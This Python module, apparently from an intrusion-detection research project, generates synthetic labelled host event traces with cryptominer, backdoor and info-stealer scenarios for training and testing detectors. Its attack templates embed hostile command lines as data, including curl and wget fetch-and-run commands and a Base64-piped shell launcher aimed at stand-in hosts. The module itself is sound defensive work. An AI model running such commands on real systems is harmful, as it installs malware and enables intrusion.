"""Deterministic synthetic host traces with labelled attacks and false-positive archetypes.

Benign background comes from the process archetypes in ``data/catalog.ini``.
Attack templates follow three intrusion narratives (a sandbox backdoor, a
PostgreSQL-borne cryptominer, a long-term info stealer) and every event they
touch is labelled by IOC name. The three false-positive archetypes reproduce
rare-but-trained fan-out (sparse), never-seen structure (unknown) and renamed
objects (semantic change).

Day ``d`` is generated from ``random.Random(f"{seed}:{d}")`` alone, so days are
independent and a spec always yields byte-identical files.
"""

from __future__ import annotations

import base64
import binascii
import configparser
import hashlib
import json
import os
import random
import re
from contextlib import contextmanager
from dataclasses import asdict, dataclass, field
from importlib import resources
from typing import Iterator

from .events import ActionKind, EntityAttrs, EntityKind, Event, Label, write_trace

DAY_NS = 86_400 * 10**9
ATTACKS = ("backdoor", "mining", "info_stealing", "none")
FP_ARCHETYPES = ("sparse", "unknown", "semantic_change")
# host profiles each attack template knows how to stage
ATTACK_HOSTS = {"mining": ("stable",), "info_stealing": ("ever_changing",),
                "backdoor": ("stable", "ever_changing"), "none": ("stable", "ever_changing")}
# the sparse and unknown templates stage Windows programs
FP_HOSTS = {"sparse": ("ever_changing",), "unknown": ("ever_changing",),
            "semantic_change": ("stable", "ever_changing")}
PROFILES = ("stable", "ever_changing")
_B64_TOKEN = re.compile(r"[A-Za-z0-9+/]{12,}={0,2}")
_SECTION_PREFIX = {"stable": "stable:", "ever_changing": "ever:"}
_HOST_IP = {"stable": "10.0.4.17", "ever_changing": "192.168.20.35"}

P = EntityKind.PROCESS
A = ActionKind


class GeneratorError(ValueError):
    pass


# --- scenario description ---------------------------------------------------------


@dataclass(frozen=True)
class ScenarioSpec:
    seed: int = 42
    days: int = 1                              # test days, numbered from train_days
    host_profile: str = "stable"
    attacks: tuple[str, ...] = ("mining",)
    fp_archetypes: tuple[str, ...] = ()
    scale: int = 20_000                        # approximate events per day
    train_days: int = 1
    divergence: float = 1.0                    # 0 = attack mimics benign structure
    pre_deployment: bool = False               # info stealer already active in training days
    imbalance: float = 0.0                     # extra share of short-lived open/close processes
    novelty: float = 0.08                      # renamed-object share added per test day
    attack_day: int | None = None              # defaults to the first test day

    def __post_init__(self) -> None:
        object.__setattr__(self, "attacks", tuple(self.attacks))
        object.__setattr__(self, "fp_archetypes", tuple(self.fp_archetypes))
        if self.host_profile not in PROFILES:
            raise GeneratorError(f"unknown host profile {self.host_profile!r}")
        for name in self.attacks:
            if name not in ATTACKS:
                raise GeneratorError(f"unknown attack template {name!r}")
            if self.host_profile not in ATTACK_HOSTS[name]:
                raise GeneratorError(f"attack {name!r} is not staged on a {self.host_profile} host")
        for name in self.fp_archetypes:
            if name not in FP_ARCHETYPES:
                raise GeneratorError(f"unknown false-positive template {name!r}")
            if self.host_profile not in FP_HOSTS[name]:
                raise GeneratorError(f"false-positive template {name!r} is not staged on a {self.host_profile} host")
        if self.days < 0 or self.train_days < 0 or self.scale < 1:
            raise GeneratorError("days, train_days must be >= 0 and scale >= 1")
        if not 0.0 <= self.divergence <= 1.0:
            raise GeneratorError("divergence must lie in [0, 1]")

    @property
    def first_test_day(self) -> int:
        return self.train_days

    @property
    def effective_attack_day(self) -> int:
        return self.first_test_day if self.attack_day is None else self.attack_day

    @property
    def active_attacks(self) -> tuple[str, ...]:
        return tuple(a for a in self.attacks if a != "none")

    def to_json(self) -> dict:
        return asdict(self)

    @classmethod
    def from_json(cls, data: dict) -> "ScenarioSpec":
        return cls(**data)


@dataclass(frozen=True)
class IocSet:
    process_paths: frozenset[str] = frozenset()
    file_paths: frozenset[str] = frozenset()
    domains: frozenset[str] = frozenset()
    ips: frozenset[str] = frozenset()

    def union(self, other: "IocSet") -> "IocSet":
        return IocSet(self.process_paths | other.process_paths, self.file_paths | other.file_paths,
                      self.domains | other.domains, self.ips | other.ips)

    def references(self, attrs: EntityAttrs) -> bool:
        kind = attrs.kind
        if kind is EntityKind.NETWORK:
            return attrs.domain in self.domains or attrs.dst_ip in self.ips
        if attrs.file_path in self.process_paths or attrs.file_path in self.file_paths:
            return True
        if kind is EntityKind.PROCESS and attrs.cmdline:
            return self.mentioned_in(attrs.cmdline)
        return False

    def mentioned_in(self, text: str) -> bool:
        """Whether an IOC name occurs in ``text`` or in any Base64 token of it."""
        names = self._names()
        if any(n in text for n in names):
            return True
        for token in _B64_TOKEN.findall(text):
            try:
                decoded = base64.b64decode(token, validate=True).decode("utf-8")
            except (binascii.Error, UnicodeDecodeError):
                continue
            if any(n in decoded for n in names):
                return True
        return False

    def _names(self) -> tuple[str, ...]:
        return tuple(self.process_paths | self.file_paths | self.domains | self.ips)

    def to_json(self) -> dict:
        return {k: sorted(v) for k, v in asdict(self).items()}


# --- catalog --------------------------------------------------------------------------


@dataclass(frozen=True)
class Archetype:
    name: str
    path: str
    cmdline: str | None = None
    persistent: bool = False
    parent: str | None = None
    spawn: ActionKind = A.EXEC
    weight: float = 0.0
    events: tuple[int, int] = (5, 10)
    mix: tuple[tuple[ActionKind, float], ...] = ()
    files: tuple[str, ...] = ()
    private: tuple[str, ...] = ()
    registry: tuple[str, ...] = ()
    dlls: tuple[str, ...] = ()
    endpoints: tuple[str, ...] = ()
    children: tuple[str, ...] = ()
    scripts: tuple[str, ...] = ()


@dataclass(frozen=True)
class Catalog:
    version: str
    profiles: dict[str, dict[str, Archetype]]


def _split_list(text: str | None) -> tuple[str, ...]:
    if not text:
        return ()
    return tuple(s.strip() for s in text.split(",") if s.strip())


def load_catalog(path: str | os.PathLike | None = None) -> Catalog:
    parser = configparser.ConfigParser(interpolation=None)
    parser.optionxform = str
    if path is None:
        text = resources.files("provsight").joinpath("data/catalog.ini").read_text(encoding="utf-8")
    else:
        with open(path, encoding="utf-8") as fh:
            text = fh.read()
    parser.read_string(text)
    profiles: dict[str, dict[str, Archetype]] = {p: {} for p in PROFILES}
    for section in parser.sections():
        if section == "catalog":
            continue
        profile = next((p for p, pre in _SECTION_PREFIX.items() if section.startswith(pre)), None)
        if profile is None:
            raise GeneratorError(f"catalog section {section!r} has no known profile prefix")
        name = section.split(":", 1)[1]
        s = parser[section]
        mix = []
        for item in s.get("mix", "").split():
            action, weight = item.split(":")
            mix.append((ActionKind(action), float(weight)))
        lo, hi = (int(x) for x in s.get("events", "5 10").split())
        profiles[profile][name] = Archetype(
            name=name,
            path=s["path"],
            cmdline=s.get("cmdline"),
            persistent=s.getboolean("persistent", False),
            parent=s.get("parent"),
            spawn=ActionKind(s.get("spawn", "exec")),
            weight=s.getfloat("weight", 0.0),
            events=(lo, hi),
            mix=tuple(mix),
            files=_split_list(s.get("files")),
            private=_split_list(s.get("private")),
            registry=_split_list(s.get("registry")),
            dlls=_split_list(s.get("dlls")),
            endpoints=_split_list(s.get("endpoints")),
            children=_split_list(s.get("children")),
            scripts=_split_list(s.get("scripts")),
        )
    return Catalog(parser["catalog"]["version"], profiles)


# --- helpers ------------------------------------------------------------------------------


def _digest(*parts: object) -> int:
    text = "\x1f".join(map(str, parts))
    return int.from_bytes(hashlib.blake2b(text.encode("utf-8"), digest_size=8).digest(), "big")


def resolve(domain: str) -> str:
    """Fixed domain -> IP map; every domain resolves to one address."""
    h = _digest("dns", domain)
    return f"{23 + h % 180}.{(h >> 8) % 256}.{(h >> 16) % 256}.{1 + (h >> 24) % 254}"


def b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-8")).decode("ascii")


def _versioned(name: str, tag: str) -> str:
    head, sep, ext = name.rpartition(".")
    if sep and "\\" not in ext and "/" not in ext and len(ext) <= 5:
        return f"{head}_{tag}.{ext}"
    return f"{name}_{tag}"


_WRITE_HINTS = (".log", "journal", "history", "kmsg", "notify", "pg_wal", "pg_xact", "status", ".csv")
_HANDLE_HINTS = ("/proc/", "/sys/", "/run/", "/dev/")
_ACTION_GROUP = {A.READ: "read", A.WRITE: "write", A.DELETE: "write", A.OPEN: "handle", A.CLOSE: "handle"}


def file_role(path: str) -> str:
    """Which action group a shared file receives on a stable host."""
    low = path.lower()
    if any(h in low for h in _WRITE_HINTS):
        return "write"
    if any(low.startswith(h) or h in low for h in _HANDLE_HINTS):
        return "handle"
    return "read"


def _cycle(mix: tuple[tuple[ActionKind, float], ...]) -> list[ActionKind]:
    """Smooth weighted round robin over integer weights."""
    weights = {a: max(1, round(w)) for a, w in mix if a not in (A.EXEC, A.FORK)}
    current = dict.fromkeys(weights, 0)
    total = sum(weights.values())
    out = []
    for _ in range(total):
        for a in current:
            current[a] += weights[a]
        best = max(current, key=lambda a: current[a])
        current[best] -= total
        out.append(best)
    return out


# --- one day of emission ------------------------------------------------------------------


class DayBuilder:
    """Collects events for one day and sorts them into a trace."""

    def __init__(self, spec: ScenarioSpec, day: int, catalog: Catalog, iocs: IocSet):
        self.spec = spec
        self.day = day
        self.train = day < spec.train_days
        self.rng = random.Random(f"{spec.seed}:{day}")
        self.catalog = catalog
        self.archetypes = catalog.profiles[spec.host_profile]
        self.iocs = iocs
        self.label_attacks = True
        self.host_ip = _HOST_IP[spec.host_profile]
        self.t0 = day * DAY_NS
        self._items: list[tuple] = []
        self._next_pid = 1000 + 100_000 * day
        self._counter = 0
        self._files: dict[tuple[EntityKind, str], EntityAttrs] = {}
        self._persistent: dict[str, EntityAttrs] = {}
        self._stage: dict | None = None
        self._ioc_cache: dict[EntityAttrs, bool] = {}
        # daemons run fixed cycles and connections are whole exchanges on every
        # host; a stable host also keeps each shared file to one kind of access
        self.periodic = True
        self.regular = spec.host_profile == "stable"
        self.drift = 0.0
        if "semantic_change" in spec.fp_archetypes and not self.train:
            self.drift = min(1.0, spec.novelty * (day - spec.train_days + 1))

    # primitives
    def pid(self) -> int:
        self._next_pid += self.rng.randint(1, 7)
        return self._next_pid

    def unique(self) -> int:
        self._counter += 1
        return self._counter

    def when(self, lo: float = 0.0, hi: float = 1.0) -> int:
        return self.t0 + int(self.rng.uniform(lo, hi) * (DAY_NS - 1))

    def gap(self) -> int:
        return self.rng.randint(200_000, 40_000_000)

    def process(self, path: str, cmdline: str | None = None) -> EntityAttrs:
        return EntityAttrs(P, pid=self.pid(), file_path=path, cmdline=cmdline)

    def persistent(self, name: str) -> EntityAttrs:
        attrs = self._persistent.get(name)
        if attrs is None:
            arch = self.archetypes[name]
            attrs = EntityAttrs(P, pid=300 + sorted(self.archetypes).index(name), file_path=arch.path,
                                cmdline=arch.cmdline)
            self._persistent[name] = attrs
        return attrs

    def file(self, path: str, kind: EntityKind = EntityKind.FILE) -> EntityAttrs:
        key = (kind, path)
        attrs = self._files.get(key)
        if attrs is None:
            attrs = self._files[key] = EntityAttrs(kind, file_path=path)
        return attrs

    def script(self, content: str) -> EntityAttrs:
        key = (EntityKind.SCRIPT, content)
        attrs = self._files.get(key)
        if attrs is None:
            attrs = self._files[key] = EntityAttrs(EntityKind.SCRIPT, script_content=content)
        return attrs

    def endpoint(self, spec: str, port: int | None = None, url: str | None = None) -> EntityAttrs:
        """``domain:port``, ``ip:port`` or ``pool:name:size:port``."""
        if spec.startswith("pool:"):
            _, name, size, p = spec.split(":")
            i = self.rng.randrange(int(size))
            h = _digest("pool", name, i)
            ip = f"{100 + h % 100}.{(h >> 8) % 256}.{(h >> 16) % 256}.{1 + (h >> 24) % 254}"
            return self.conn(ip=ip, port=int(p))
        host, _, p = spec.rpartition(":")
        port = int(p) if port is None else port
        if host.replace(".", "").isdigit():
            return self.conn(ip=host, port=port)
        return self.conn(domain=host, port=port, url=url)

    def conn(self, ip: str | None = None, port: int = 443, domain: str | None = None,
             url: str | None = None) -> EntityAttrs:
        if domain is not None:
            ip = resolve(domain)
        return EntityAttrs(EntityKind.NETWORK, domain=domain, url=url, src_ip=self.host_ip,
                           src_port=self.rng.randint(32768, 60999), dst_ip=ip, dst_port=port)

    def emit(self, ts: int, subject: EntityAttrs, action: ActionKind, obj: EntityAttrs) -> None:
        bad = self.label_attacks and (self._references(subject) or self._references(obj))
        self._items.append((ts, len(self._items), subject, action, obj, bad))
        if self._stage is not None:
            self._stage["events"] += 1

    def _references(self, attrs: EntityAttrs) -> bool:
        hit = self._ioc_cache.get(attrs)
        if hit is None:
            hit = self._ioc_cache[attrs] = self.iocs.references(attrs)
        return hit

    @contextmanager
    def stage(self, record: list, name: str) -> Iterator[None]:
        entry = {"stage": name, "events": 0}
        record.append(entry)
        prev, self._stage = self._stage, entry
        try:
            yield
        finally:
            self._stage = prev

    def events(self) -> list[Event]:
        self._items.sort(key=lambda it: (it[0], it[1]))
        out = []
        for seq, (ts, _, s, a, o, bad) in enumerate(self._items):
            out.append(Event(seq, ts, s, a, o, Label.MALICIOUS if bad else Label.BENIGN))
        return out

    # semantic drift
    def rename(self, name: str, what: str = "path") -> str:
        if self.drift <= 0.0:
            return name
        if (_digest("drift", self.spec.seed, name) % 10_000) / 10_000 >= self.drift:
            return name
        tag = f"d{self.day}"
        if what == "domain":
            return f"{tag}-{name}"
        return _versioned(name, tag)

    # archetype sessions
    def shared_files(self, arch: Archetype, action: ActionKind) -> tuple[str, ...]:
        if not self.regular:
            return arch.files
        group = _ACTION_GROUP.get(action)
        return tuple(f for f in arch.files if file_role(f) == group)

    def object_for(self, arch: Archetype, action: ActionKind, private: dict) -> EntityAttrs | None:
        rng = self.rng
        if action in (A.READ, A.WRITE, A.OPEN, A.CLOSE, A.DELETE):
            shared = self.shared_files(arch, action)
            use_private = arch.private and action in (A.WRITE, A.OPEN, A.CLOSE, A.DELETE) and (
                not shared or rng.random() < 0.5)
            if use_private:
                tmpl = rng.choice(arch.private)
                name = private.get(tmpl)
                if name is None or (action is A.WRITE and rng.random() < 0.3):
                    name = private[tmpl] = tmpl.format(n=self.unique())
                return self.file(name)
            if shared:
                return self.file(self.rename(rng.choice(shared)))
            return None
        if action is A.LOAD:
            return self.file(rng.choice(arch.dlls)) if arch.dlls else None
        if action is A.MODIFY_REGISTRY:
            return self.file(self.rename(rng.choice(arch.registry)), EntityKind.REGISTRY_KEY) if arch.registry else None
        if action in (A.CONNECT, A.SEND, A.RECV):
            if not arch.endpoints:
                return None
            spec = rng.choice(arch.endpoints)
            if not spec.startswith("pool:") and self.drift > 0:
                host, _, port = spec.rpartition(":")
                if not host.replace(".", "").isdigit():
                    spec = f"{self.rename(host, 'domain')}:{port}"
            return self.endpoint(spec)
        if action is A.RUN_SCRIPT:
            return self.script(rng.choice(arch.scripts)) if arch.scripts else None
        return None

    def session(self, arch: Archetype, parent: EntityAttrs | None, start: int, n_events: int | None = None,
                depth: int = 0, attrs: EntityAttrs | None = None) -> int:
        """Emit one process session; returns the timestamp after its last event."""
        rng = self.rng
        if attrs is None:
            cmd = arch.cmdline if arch.cmdline is not None else arch.path.replace("\\", "/").rsplit("/", 1)[-1]
            if self.drift > 0 and (_digest("cmd", self.spec.seed, arch.name) % 10_000) / 10_000 < self.drift:
                # hashed rather than drawn so drift leaves the random stream untouched
                tag = _digest("cmdv", self.spec.seed, arch.name, self._next_pid) % 1000
                cmd = f"{cmd} --profile=d{self.day}-{tag}"
            attrs = self.process(arch.path, cmd)
        ts = start
        if parent is not None:
            self.emit(ts, parent, arch.spawn, attrs)
            ts += self.gap()
        lo, hi = arch.events
        n = rng.randint(lo, hi) if n_events is None else n_events
        actions = [a for a, _ in arch.mix]
        weights = [w for _, w in arch.mix]
        private: dict = {}
        emitted = 0
        tries = 0
        while emitted < n and tries < 4 * n + 8:
            tries += 1
            action = rng.choices(actions, weights)[0]
            if action in (A.EXEC, A.FORK):
                if depth >= 2 or not arch.children:
                    continue
                child = self.archetypes[rng.choice(arch.children)]
                ts = self.session(child, attrs, ts, depth=depth + 1) + self.gap()
                emitted += 1
                continue
            obj = self.object_for(arch, action, private)
            if obj is None:
                continue
            if self.periodic and action in (A.CONNECT, A.SEND, A.RECV):
                # one request/response exchange per connection
                for offset, step in enumerate((A.CONNECT, A.SEND, A.RECV)):
                    self.emit(ts + offset, attrs, step, obj)
                emitted += 2
            elif self.regular and action in (A.OPEN, A.CLOSE):
                # a handle is released right after use
                self.emit(ts, attrs, A.OPEN, obj)
                self.emit(ts + 1, attrs, A.CLOSE, obj)
                emitted += 1
            else:
                self.emit(ts, attrs, action, obj)
            ts += self.gap()
            emitted += 1
        return ts


# --- benign background ------------------------------------------------------------------


def _persistent_events(b: DayBuilder, name: str, count: int) -> None:
    arch = b.archetypes[name]
    attrs = b.persistent(name)
    if b.periodic:
        cycle = _cycle(arch.mix)
        turn: dict = {}
        step = DAY_NS / max(count, 1)
        for i in range(count):
            action = cycle[i % len(cycle)]
            if action in (A.CONNECT, A.SEND, A.RECV):
                obj = b.endpoint(arch.endpoints[turn.setdefault(action, 0) % len(arch.endpoints)]) if arch.endpoints else None
            else:
                pool = b.shared_files(arch, action) or arch.files
                obj = b.file(pool[turn.get(action, 0) % len(pool)]) if pool else None
            turn[action] = turn.get(action, 0) + 1
            if obj is not None:
                b.emit(b.t0 + int((i + 0.5 + b.rng.uniform(-0.4, 0.4)) * step), attrs, action, obj)
        return
    actions = [a for a, _ in arch.mix]
    weights = [w for _, w in arch.mix]
    for _ in range(count):
        action = b.rng.choices(actions, weights)[0]
        obj = b.object_for(arch, action, {})
        if obj is not None:
            b.emit(b.when(), attrs, action, obj)


def background(b: DayBuilder, budget: int) -> None:
    """Spread ``budget`` events over the profile's archetypes by weight."""
    archs = b.archetypes
    total_w = sum(a.weight for a in archs.values()) or 1.0
    for name in sorted(archs):
        arch = archs[name]
        if arch.weight <= 0:
            continue
        share = budget * arch.weight / total_w
        if arch.persistent:
            _persistent_events(b, name, int(share))
            continue
        lo, hi = arch.events
        sessions = max(1, round(share / ((lo + hi) / 2 + 1)))
        parent = b.persistent(arch.parent) if arch.parent else None
        for i in range(sessions):
            if b.periodic:
                start = b.t0 + int((i + 0.5 + b.rng.uniform(-0.3, 0.3)) / sessions * 0.98 * DAY_NS)
            else:
                start = b.when(0.0, 0.98)
            b.session(arch, parent, start)
    if b.spec.imbalance > 0 and b.spec.host_profile == "stable":
        checker = archs["healthcheck"]
        extra = int(budget * b.spec.imbalance / 7)
        parent = b.persistent(checker.parent)
        for _ in range(extra):
            b.session(checker, parent, b.when(0.0, 0.98))


# --- attack templates ---------------------------------------------------------------------

MINING_IOCS = IocSet(
    process_paths=frozenset({"/tmp/.ICE-unix/.pg/postmaster", "/tmp/.ICE-unix/.pg/tor"}),
    file_paths=frozenset({"/var/spool/cron/crontabs/postgres", "/var/lib/postgresql/.profile",
                          "/var/tmp/.pg/postmaster", "/tmp/.ICE-unix/.pg/torrc"}),
    domains=frozenset({"xmr.minepool.example"}),
    ips=frozenset({"203.0.113.66", "198.51.100.21", "198.51.100.54", "198.51.100.87", "198.51.100.140"}),
)
STEALER_IOCS = IocSet(
    # the Roaming copy is the binary replicating itself
    process_paths=frozenset({r"C:\Windows\System\@wcx\Search.exe",
                             r"C:\Users\alice\AppData\Roaming\@wcx\Search.exe"}),
    file_paths=frozenset({r"C:\Windows\System\@wcx\wcx.dll",
                          r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\wcx"}),
    domains=frozenset({"sync.cloudnote-cdn.example", "upload.cloudnote-cdn.example"}),
)
BACKDOOR_IOCS = {
    "stable": IocSet(
        process_paths=frozenset({"/tmp/.cache/kworkerd"}),
        file_paths=frozenset({"/etc/systemd/system/kworkerd.service"}),
        domains=frozenset({"dl.mirror-pkgs.example"}),
        ips=frozenset({"192.0.2.200"}),
    ),
    "ever_changing": IocSet(
        process_paths=frozenset({r"C:\Users\alice\Downloads\invoice_viewer.exe"}),
        file_paths=frozenset({r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\viewer"}),
        domains=frozenset({"dl.mirror-pkgs.example"}),
        ips=frozenset({"192.0.2.200"}),
    ),
}


def _with_resolved(iocs: IocSet) -> IocSet:
    """Add each IOC domain's address so IP-only identities still carry the label."""
    return IocSet(iocs.process_paths, iocs.file_paths, iocs.domains,
                  iocs.ips | frozenset(resolve(d) for d in iocs.domains))


def iocs_for(spec: ScenarioSpec) -> IocSet:
    out = IocSet()
    for name in spec.active_attacks:
        if name == "mining":
            out = out.union(MINING_IOCS)
        elif name == "info_stealing":
            out = out.union(STEALER_IOCS)
        else:
            out = out.union(BACKDOOR_IOCS[spec.host_profile])
    return _with_resolved(out)


def _blend(b: DayBuilder, attrs: EntityAttrs, ts: int, attack: list, mimic: Archetype, n_mimic: int) -> int:
    """Emit the attack actions interleaved with mimicry of a benign archetype.

    ``divergence`` decides how much of the attack survives: each attack action is
    kept with that probability, and the rest of the session copies ``mimic``.
    """
    d = b.spec.divergence
    kept = [step for step in attack if b.rng.random() < d]
    n_fill = round((1.0 - d) * n_mimic)
    fill = [None] * n_fill
    plan = kept + fill
    b.rng.shuffle(plan)
    actions = [a for a, _ in mimic.mix if a not in (A.EXEC, A.FORK)]
    weights = [w for a, w in mimic.mix if a not in (A.EXEC, A.FORK)]
    private: dict = {}
    for step in plan:
        if step is None:
            obj = None
            while obj is None:
                action = b.rng.choices(actions, weights)[0]
                obj = b.object_for(mimic, action, private)
            b.emit(ts, attrs, action, obj)
        else:
            action, obj = step
            b.emit(ts, attrs, action, obj)
        ts += b.gap()
    return ts


def _miner_actions(b: DayBuilder) -> list:
    pool = b.conn(domain="xmr.minepool.example", port=3333)
    steps = [(A.READ, b.file("/proc/cpuinfo")), (A.READ, b.file("/proc/meminfo")),
             (A.DELETE, b.file("/tmp/kdevtmpfsi")), (A.DELETE, b.file("/tmp/kinsing")),
             (A.CONNECT, pool), (A.WRITE, b.file("/var/tmp/.pg/postmaster")),
             (A.READ, b.file("/var/lib/postgresql/.profile"))]
    return steps + [(b.rng.choice((A.SEND, A.RECV)), pool) for _ in range(b.rng.randint(6, 12))]


def _tor_actions(b: DayBuilder, relays: list[str]) -> list:
    steps = [(A.READ, b.file("/tmp/.ICE-unix/.pg/torrc"))]
    for ip in b.rng.sample(relays, 3):
        conn = b.conn(ip=ip, port=9001)
        steps += [(A.CONNECT, conn), (A.SEND, conn), (A.RECV, conn)]
    return steps


def mining(b: DayBuilder, first: bool, record: list, cmdlines: list) -> None:
    rng = b.rng
    drop = "/tmp/.ICE-unix/.pg/postmaster"
    tor = "/tmp/.ICE-unix/.pg/tor"
    attacker = b.conn(ip="203.0.113.66", port=5432)
    relays = ["198.51.100.21", "198.51.100.54", "198.51.100.87", "198.51.100.140"]
    mimic = b.archetypes["backup"]

    def shell(plain: str) -> EntityAttrs:
        encoded = b64(plain)
        cmdlines.append({"b64": encoded, "plaintext": plain})
        return b.process("/bin/sh", f"sh -c echo {encoded}|base64 -d|sh")

    def unusual() -> bool:
        # low divergence drops the structurally odd steps and keeps only the IOC core
        return rng.random() < b.spec.divergence

    ts = b.when(0.02, 0.12)
    intrusion_end = ts if first else b.t0
    if first:
        postgres = b.persistent("postgres")
        with b.stage(record, "intrusion"):
            for _ in range(round(b.spec.divergence * rng.randint(4, 8))):
                b.emit(ts, postgres, A.RECV, b.conn(ip="203.0.113.66", port=5432))
                ts += b.gap()
            session = b.process(b.archetypes["pg_session"].path, "postgres: postgres postgres 203.0.113.66 COPY")
            b.emit(ts, postgres, A.FORK, session)
            for action in (A.RECV, A.SEND, A.RECV):
                ts += b.gap()
                b.emit(ts, session, action, attacker)
            loader = session
            if unusual():
                loader = shell(f"curl -s http://203.0.113.66:8080/pm -o {drop}; chmod +x {drop}; {drop}")
                ts += b.gap()
                b.emit(ts, session, A.EXEC, loader)
        with b.stage(record, "download"):
            fetch = b.conn(ip="203.0.113.66", port=8080)
            for action in (A.CONNECT, A.RECV, A.RECV):
                ts += b.gap()
                b.emit(ts, loader, action, fetch)
            ts += b.gap()
            b.emit(ts, loader, A.WRITE, b.file(drop))
            dropper = b.process(drop, f"{drop} -B")
            ts += b.gap()
            b.emit(ts, loader, A.EXEC, dropper)
            if unusual():
                ts += b.gap()
                b.emit(ts, dropper, A.WRITE, b.file(tor))
                tor_p = b.process(tor, f"{tor} --quiet --SocksPort 9050")
                ts += b.gap()
                b.emit(ts, dropper, A.EXEC, tor_p)
                for action, obj in _tor_actions(b, relays):
                    ts += b.gap()
                    b.emit(ts, tor_p, action, obj)
        with b.stage(record, "disguise"):
            if unusual():
                ts += b.gap()
                b.emit(ts, dropper, A.READ, b.file("/etc/passwd"))
            ts += b.gap()
            b.emit(ts, dropper, A.WRITE, b.file("/var/lib/postgresql/.profile"))
        with b.stage(record, "persistence"):
            ts += b.gap()
            b.emit(ts, dropper, A.WRITE, b.file("/var/spool/cron/crontabs/postgres"))
        with b.stage(record, "mining"):
            # the first run starts mining straight away
            ts = _blend(b, dropper, ts + b.gap(), _miner_actions(b), mimic, rng.randint(*mimic.events))
            intrusion_end = ts

    cron = b.persistent("cron")
    crontab = b.file("/var/spool/cron/crontabs/postgres")
    with b.stage(record, "execution"):
        # the planted crontab fires every two hours
        for hour in range(0, 24, 2):
            ts = b.t0 + hour * 3600 * 10**9 + rng.randint(0, 5 * 10**9)
            if ts <= intrusion_end + 60 * 10**9:
                continue
            b.emit(ts, cron, A.READ, crontab)
            launcher = cron
            if unusual():
                launcher = shell(f"{drop} -B --donate-level 1")
                ts += b.gap()
                b.emit(ts, cron, A.EXEC, launcher)
            ts += b.gap()
            miner = b.process(drop, f"{drop} -B")
            b.emit(ts, launcher, A.EXEC, miner)
            ts += b.gap()
            if unusual():
                tor_p = b.process(tor, f"{tor} --quiet")
                b.emit(ts, miner, A.EXEC, tor_p)
                _blend(b, tor_p, ts + b.gap(), _tor_actions(b, relays), mimic, rng.randint(4, 8))
            ts = _blend(b, miner, ts + b.gap(), _miner_actions(b), mimic, rng.randint(*mimic.events))


def info_stealing(b: DayBuilder, first: bool, record: list, cmdlines: list) -> None:
    rng = b.rng
    exe = r"C:\Windows\System\@wcx\Search.exe"
    run_key = b.file(r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\wcx", EntityKind.REGISTRY_KEY)
    explorer = b.persistent("explorer")
    mimic = b.archetypes["word"]
    if first:
        with b.stage(record, "installation"):
            ts = b.when(0.02, 0.1)
            installer = b.process(exe, f"{exe} /install")
            b.emit(ts, explorer, A.EXEC, installer)
            for action, obj in ((A.WRITE, b.file(r"C:\Windows\System\@wcx\wcx.dll")),
                                (A.MODIFY_REGISTRY, run_key),
                                (A.WRITE, b.file(r"C:\Users\alice\AppData\Roaming\@wcx\Search.exe"))):
                ts += b.gap()
                b.emit(ts, installer, action, obj)
    with b.stage(record, "collection"):
        for _ in range(rng.randint(3, 6)):
            ts = b.when(0.1, 0.95)
            b.emit(ts, explorer, A.READ, run_key)
            ts += b.gap()
            proc = b.process(exe, f"{exe} -s {rng.randrange(10**6):06d}")
            b.emit(ts, explorer, A.EXEC, proc)
            ts += b.gap()
            c2 = b.conn(domain="sync.cloudnote-cdn.example", port=443)
            up = b.conn(domain="upload.cloudnote-cdn.example", port=443)
            attack = [(A.LOAD, b.file(r"C:\Windows\System\@wcx\wcx.dll")),
                      (A.LOAD, b.file(r"C:\Windows\System32\ws2_32.dll")),
                      (A.LOAD, b.file(r"C:\Windows\System32\crypt32.dll")),
                      (A.CONNECT, c2), (A.RECV, c2), (A.CONNECT, up),
                      (A.MODIFY_REGISTRY, run_key),
                      (A.WRITE, b.file(r"C:\Users\alice\AppData\Roaming\@wcx\Search.exe"))]
            for doc in (r"C:\Users\alice\Documents\report.docx", r"C:\Users\alice\Documents\plan.docx",
                        r"C:\Users\alice\AppData\Local\Google\Chrome\User Data\Default\History",
                        r"C:\Users\alice\AppData\Local\Microsoft\Outlook\alice@corp.example.ost"):
                attack += [(A.READ, b.file(doc)), (A.SEND, up)]
            _blend(b, proc, ts, attack, mimic, rng.randint(*mimic.events))


def backdoor(b: DayBuilder, first: bool, record: list, cmdlines: list) -> None:
    if not first:
        return
    rng = b.rng
    stable = b.spec.host_profile == "stable"
    iocs = BACKDOOR_IOCS[b.spec.host_profile]
    exe = next(iter(iocs.process_paths))
    persist = next(iter(iocs.file_paths))
    ts = b.when(0.2, 0.6)
    with b.stage(record, "delivery"):
        # the login shell or browser that fetches the implant is already running
        if stable:
            parent = b.process("/bin/bash", "-bash")
            fetcher = b.process("/usr/bin/wget", "wget -q http://dl.mirror-pkgs.example/k -O /tmp/.cache/kworkerd")
            b.emit(ts, parent, A.EXEC, fetcher)
        else:
            parent = b.persistent("explorer")
            fetcher = b.process(b.archetypes["chrome"].path, "chrome.exe --type=renderer --lang=en-US")
        site = b.conn(domain="dl.mirror-pkgs.example", port=80)
        for action in (A.CONNECT, A.RECV, A.RECV):
            ts += b.gap()
            b.emit(ts, fetcher, action, site)
        ts += b.gap()
        b.emit(ts, fetcher, A.WRITE, b.file(exe))
    with b.stage(record, "execution"):
        ts += b.gap()
        implant = b.process(exe, exe)
        b.emit(ts, parent, A.EXEC, implant)
        if rng.random() < b.spec.divergence:
            ts += b.gap()
            b.emit(ts, implant, A.MODIFY_REGISTRY if not stable else A.WRITE,
                   b.file(persist, EntityKind.FILE if stable else EntityKind.REGISTRY_KEY))
    with b.stage(record, "command_and_control"):
        for _ in range(max(1, round(b.spec.divergence * rng.randint(3, 6)))):
            ts += rng.randint(10**9, 60 * 10**9)
            c2 = b.conn(ip="192.0.2.200", port=4444)
            for action in (A.CONNECT, A.SEND, A.RECV):
                b.emit(ts, implant, action, c2)
                ts += b.gap()


TEMPLATES = {"mining": mining, "info_stealing": info_stealing, "backdoor": backdoor}


# --- false-positive archetypes ----------------------------------------------------------

SCRIPT_POOL = 2000
_WMI_CLASSES = ("Win32_Processor", "Win32_BIOS", "Win32_DiskDrive", "Win32_PhysicalMemory", "Win32_NetworkAdapter",
                "Win32_VideoController", "Win32_BaseBoard", "Win32_USBHub", "Win32_SoundDevice", "Win32_PnPEntity")


def collector_script(i: int) -> str:
    cls = _WMI_CLASSES[i % len(_WMI_CLASSES)]
